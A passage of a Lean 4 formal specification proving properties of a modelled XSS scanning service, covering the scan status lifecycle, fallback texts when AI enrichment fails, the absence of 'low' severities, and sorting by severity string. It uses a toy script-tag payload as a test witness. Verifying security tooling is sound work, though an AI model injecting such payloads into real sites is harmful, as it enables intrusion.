  have h1 : (background_scan req none pf oracle es d init).status = "completed" := rfl
  refine ⟨h1, ?_, rfl, rfl, ?_⟩
  · rw [h1]
    decide
  · intro st1 st2 body
    rfl

/-- **C7 counterexample.** When the technical-analysis call succeeds with
text `TECH` and the remediation call then fails, the finding's
`ai_summary` does not keep the oracle text: both fields are overwritten
with the fixed fallbacks. -/
theorem enrichment_partial_failure_not_per_field :
    (analyze_vulnerability_with_ai vuln_c7 (.fail_second "TECH")).ai_summary ≠ some "TECH"
    ∧ (analyze_vulnerability_with_ai vuln_c7 (.fail_second "TECH")).ai_summary
        = some fallback_summary
    ∧ (analyze_vulnerability_with_ai vuln_c7 (.fail_second "TECH")).remediation_suggestion
        = some fallback_remediation := by
  refine ⟨?_, rfl, rfl⟩
  decide

/-- **C7 (amended).** The single `try/except` around both enrichment calls
substitutes the fixed fallback texts for BOTH fields whenever either call
fails (a remediation failure discards the already-obtained technical
summary); on success both oracle texts are kept, and enrichment outcomes
never change the scan's final status. -/
theorem enrichment_failure_substitutes_both_fallbacks (v : Vulnerability) (a r : String)
    (req : ScanRequest) (fetched : Option (Nat × String)) (pf : String → List Form)
    (oracle oracle2 : Nat → OracleOutcome) (es : Option String) (d : ℚ) (init : ScanResult) :
    analyze_vulnerability_with_ai v .fail_first
      = { v with ai_summary := some fallback_summary,
                 remediation_suggestion := some fallback_remediation }
    ∧ analyze_vulnerability_with_ai v (.fail_second a)
      = { v with ai_summary := some fallback_summary,
                 remediation_suggestion := some fallback_remediation }
    ∧ analyze_vulnerability_with_ai v (.ok a r)
      = { v with ai_summary := some a, remediation_suggestion := some r }
    ∧ (background_scan req fetched pf oracle es d init).status
      = (background_scan req fetched pf oracle2 es d init).status := by
  refine ⟨rfl, rfl, rfl, ?_⟩
  unfold background_scan
  dsimp only
  cases hv : perform_xss_scan req fetched pf with
  | nil => rfl
  | cons x xs =>
    cases es with
    | some s => rfl
    | none => rfl

/-- The final status of `background_scan` is always one of the two
terminal states. -/
theorem background_scan_status_cases (req : ScanRequest) (fetched : Option (Nat × String))
    (pf : String → List Form) (oracle : Nat → OracleOutcome) (es : Option String)
    (d : ℚ) (init : ScanResult) :
    (background_scan req fetched pf oracle es d init).status = "completed"
    ∨ (background_scan req fetched pf oracle es d init).status = "failed" := by
  rcases background_scan_cases req fetched pf oracle es d init with ⟨s, hb⟩ | hb
  · refine Or.inl ?_
    rw [hb]
    rfl
  · refine Or.inr ?_
    rw [hb]

/-- **C9.** The persisted status sequence of a scan is exactly
`pending`, `running`, then one terminal state: intake writes `pending`,
orchestration writes `running` once, and the scan settles to exactly one
of `completed`/`failed` — every adjacent pair is an allowed forward
transition, no status repeats, and the two terminal states never both
occur. -/
theorem scan_lifecycle (req : ScanRequest) (fetched : Option (Nat × String))
    (pf : String → List Form) (oracle : Nat → OracleOutcome) (es : Option String) (d : ℚ) :
    (create_scan req).status = "pending"
    ∧ (scan_status_trace req fetched pf oracle es d = ["pending", "running", "completed"]
        ∨ scan_status_trace req fetched pf oracle es d = ["pending", "running", "failed"])
    ∧ List.Chain' (fun a b => next_ok a b = true) (scan_status_trace req fetched pf oracle es d)
    ∧ (scan_status_trace req fetched pf oracle es d).count "pending" = 1
    ∧ (scan_status_trace req fetched pf oracle es d).count "running" = 1
    ∧ ((scan_status_trace req fetched pf oracle es d).count "completed" = 0
        ∨ (scan_status_trace req fetched pf oracle es d).count "failed" = 0)
    ∧ ((scan_status_trace req fetched pf oracle es d).getLast?  = some "completed"
        ∨ (scan_status_trace req fetched pf oracle es d).getLast? = some "failed") := by
  have ht : scan_status_trace req fetched pf oracle es d
      = ["pending", "running",
         (background_scan req fetched pf oracle es d
           { create_scan req with status := "running" }).status] := rfl
  rcases background_scan_status_cases req fetched pf oracle es d
      { create_scan req with status := "running" } with hs | hs
  · rw [ht, hs]
    refine ⟨rfl, Or.inl rfl, ?_, by decide, by decide, Or.inr (by decide), Or.inl (by decide)⟩
    exact List.chain'_cons.mpr ⟨rfl, List.chain'_cons.mpr ⟨rfl, List.chain'_singleton _⟩⟩
  · rw [ht, hs]
    refine ⟨rfl, Or.inr rfl, ?_, by decide, by decide, Or.inl (by decide), Or.inr (by decide)⟩
    exact List.chain'_cons.mpr ⟨rfl, List.chain'_cons.mpr ⟨rfl, List.chain'_singleton _⟩⟩

/-- Every enriched finding of a scan still carries one of the three emitted
severities. -/
theorem analyzed_severities (req : ScanRequest) (fetched : Option (Nat × String))
    (pf : String → List Form) (oracle : Nat → OracleOutcome) :
    ∀ v ∈ (perform_xss_scan req fetched pf).enum.map
        (fun p => analyze_vulnerability_with_ai p.2 (oracle p.1)),
      v.severity = "critical" ∨ v.severity = "medium" ∨ v.severity = "high" := by
  intro v hv
  rw [List.mem_map] at hv
  obtain ⟨p, hp, rfl⟩ := hv
  rw [analyze_preserves_severity]
  have hmem : p.2 ∈ perform_xss_scan req fetched pf := by
    rw [← List.enum_map_snd (perform_xss_scan req fetched pf)]
    exact List.mem_map_of_mem Prod.snd hp
  exact perform_scan_severities req fetched pf p.2 hmem

/-- **C10.** `test_payload` never emits severity `low`, and consequently
`low_count` is `0` on every completed scan produced by the pipeline. -/
theorem no_low_severity :
    (∀ sid ep nm pl ty v, test_payload sid ep nm pl ty = some v → v.severity ≠ "low")
    ∧ (∀ (req : ScanRequest) (fetched : Option (Nat × String)) (pf : String → List Form)
        (oracle : Nat → OracleOutcome) (es : Option String) (d : ℚ) (init : ScanResult),
        (background_scan req fetched pf oracle es d init).status = "completed" →
        (background_scan req fetched pf oracle es d init).low_count = 0) := by
  constructor
  · intro sid ep nm pl ty v h
    rw [test_payload_severity sid ep nm pl ty v h]
    rcases severity_of_cases pl with h1 | h1 | h1 <;> rw [h1] <;> decide
  · intro req fetched pf oracle es d init h
    rcases background_scan_cases req fetched pf oracle es d init with ⟨s, hb⟩ | hb
    · rw [hb]
      exact (length_eq_counts _ (analyzed_severities req fetched pf oracle)).2
    · rw [hb] at h
      have hf : ("failed" : String) = "completed" := h
      exact absurd hf (by decide)

/-- Witness for C10: the concrete finding for payload `<script>x</script>`
is not `low`, and a concrete completed scan has `low_count = 0`. -/
theorem no_low_severity_witness :
    vuln_w10.severity ≠ "low"
    ∧ (background_scan { id := "w10", target_url := "http://w10.test/" } none (fun _ => [])
        (fun _ => .fail_first) none 0
        (create_scan { id := "w10", target_url := "http://w10.test/" })).low_count = 0 :=
  ⟨no_low_severity.1 "w10" "http://e.test/f" "q" "<script>x</script>" "form_input" vuln_w10
      (by decide),
   no_low_severity.2 { id := "w10", target_url := "http://w10.test/" } none (fun _ => [])
      (fun _ => .fail_first) none 0
      (create_scan { id := "w10", target_url := "http://w10.test/" }) rfl⟩

/-- The lexicographic comparison is total. -/
theorem charListLe_total (a b : List Char) :
    charListLe a b = true ∨ charListLe b a = true := by
  induction a generalizing b with
  | nil => exact Or.inl rfl
  | cons x xs ih =>
    cases b with
    | nil => exact Or.inr rfl
    | cons y ys =>
      rcases lt_trichotomy x y with h | h | h
      · refine Or.inl ?_
        unfold charListLe
        rw [if_pos h]
      · subst h
        rcases ih ys with h2 | h2
        · refine Or.inl ?_
          unfold charListLe
          rw [if_neg (lt_irrefl x), if_neg (lt_irrefl x)]
          exact h2
        · refine Or.inr ?_
          unfold charListLe
          rw [if_neg (lt_irrefl x), if_neg (lt_irrefl x)]
          exact h2
      · refine Or.inr ?_
        unfold charListLe
        rw [if_pos h]

/-- The lexicographic comparison is transitive. -/
theorem charListLe_trans (a b c : List Char) (h1 : charListLe a b = true)
    (h2 : charListLe b c = true) : charListLe a c = true := by
  induction a generalizing b c with
  | nil => rfl
  | cons x xs ih =>
    cases b with
    | nil => simp [charListLe] at h1
    | cons y ys =>
      cases c with
      | nil => simp [charListLe] at h2
      | cons z zs =>
        unfold charListLe at h1 h2 ⊢
        rcases lt_trichotomy x y with hxy | hxy | hxy
        · rcases lt_trichotomy y z with hyz | hyz | hyz
          · rw [if_pos (lt_trans hxy hyz)]
          · subst hyz
            rw [if_pos hxy]
          · rw [if_neg (asymm hyz), if_pos hyz] at h2
            simp at h2
        · subst hxy
          rcases lt_trichotomy x z with hxz | hxz | hxz
          · rw [if_pos hxz]
          · subst hxz
            rw [if_neg (lt_irrefl x), if_neg (lt_irrefl x)] at h1 h2 ⊢
            exact ih ys zs h1 h2
          · rw [if_neg (asymm hxz), if_pos hxz] at h2
            simp at h2
        · rw [if_neg (asymm hxy), if_pos hxy] at h1
          simp at h1

/-- **C8.** `listVulnerabilities` returns the scan's records ordered by the
literal severity label string ascending: the output is a permutation of the
scan's records, sorted under the lexicographic string order — under which
`critical < high < low < medium` strictly, not the severity-rank order. -/
theorem vulnerabilities_sorted_by_severity_string (stored : List Vulnerability) (sid : String) :
    (get_scan_vulnerabilities stored sid).Perm
        (stored.filter (fun v => v.scan_id == sid))
    ∧ List.Sorted (fun a b : Vulnerability => charListLe a.severity.data b.severity.data = true)
        (get_scan_vulnerabilities stored sid)
    ∧ (charListLe "critical".data "high".data = true
        ∧ ¬ charListLe "high".data "critical".data = true)
    ∧ (charListLe "high".data "low".data = true
        ∧ ¬ charListLe "low".data "high".data = true)
    ∧ (charListLe "low".data "medium".data = true
        ∧ ¬ charListLe "medium".data "low".data = true) := by
  refine ⟨List.perm_insertionSort _ _, ?_, by decide, by decide, by decide⟩
  haveI ht : IsTotal Vulnerability
      (fun a b => charListLe a.severity.data b.severity.data = true) :=
    ⟨fun a b => charListLe_total a.severity.data b.severity.data⟩
  haveI htr : IsTrans Vulnerability
      (fun a b => charListLe a.severity.data b.severity.data = true) :=
    ⟨fun a b c => charListLe_trans a.severity.data b.severity.data c.severity.data⟩
  exact List.sorted_insertionSort _ _
